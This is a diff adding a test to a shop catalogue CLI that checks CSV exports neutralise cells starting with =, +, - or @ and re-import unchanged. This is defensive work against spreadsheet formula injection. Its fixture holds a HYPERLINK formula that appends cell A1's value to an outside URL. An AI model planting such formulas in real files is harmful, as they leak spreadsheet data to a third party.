@@ -1,6 +1,8 @@
 import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { openCsv } from '../catalogue/csv/read-csv';
 import { addProducts, addStore } from '../testing/shop';
 import { catalogueCommands } from './catalogue-commands';
 import { exitCode } from './context';
@@ -91,6 +93,28 @@ describe.each(waysToShop)('with %s', (_name, openShop) => {
     expect(copy.stdout).toBe('3 added, 0 changed, 0 unchanged, 0 rejected\n');
     const copied = await command('export', '--store', 'copy.localhost');
     expect(`\ufeff${copied.stdout}`).toBe(readFileSync(path, 'utf8'));
+  });
+
+  it('exports nothing that a spreadsheet would work out, and takes it back unchanged', async () => {
+    const link = '=HYPERLINK("https://example.in?"&A1,"Sale")';
+    const path = file(
+      'formulas.csv',
+      `title,category,price,description,attribute:note\n"${link.replaceAll('"', '""')}",@Pots,99,-2+3,'+91\n`,
+    );
+    const [store, copy] = ['formulas.localhost', 'formulas-copy.localhost'];
+    await command('import', path, '--store', store);
+    const exported = join(folder, 'formulas-export.csv');
+    await command('export', exported, '--store', store);
+    const { rows } = await openCsv(exported);
+    for await (const { cells } of rows) expect(cells).toContain(link);
+    const raw = parse(readFileSync(exported), { bom: true }) as string[][];
+    expect(raw[1]?.slice(1, 3)).toEqual([`'${link}`, "'@Pots"]);
+    expect(raw.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+    const again = await command('import', exported, '--store', store);
+    expect(again.stdout).toBe('0 added, 0 changed, 1 unchanged, 0 rejected\n');
+    await command('import', exported, '--store', copy);
+    const copied = await command('export', '--store', copy);
+    expect(`\ufeff${copied.stdout}`).toBe(readFileSync(exported, 'utf8'));
   });
 
   it('exports a product without a category', async () => {
